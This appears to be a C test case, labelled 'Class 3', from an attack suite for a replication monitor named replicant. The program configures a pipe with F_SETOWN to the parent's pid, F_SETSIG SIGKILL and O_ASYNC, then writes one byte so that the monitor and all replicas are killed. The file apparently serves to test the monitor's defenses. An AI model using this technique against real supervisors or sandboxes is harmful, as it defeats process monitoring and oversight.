/* Class 3: on a replica's own pipe, F_SETOWN to replicant's pid (the
 * parent), F_SETSIG SIGKILL and O_ASYNC: one byte written kills the
 * monitor and every replica with it. */
#define _GNU_SOURCE
#include <signal.h>

#include "attack.h"

int main(void)
{
	int a = attacker();
	int p[2];

	if (a && pipe(p) == 0 && fcntl(p[0], F_SETOWN, getppid()) == 0 &&
	    fcntl(p[0], F_SETSIG, SIGKILL) == 0 && fcntl(p[0], F_SETFL, O_ASYNC) == 0)
		(void)!write(p[1], "x", 1);
	return finish(a);
}
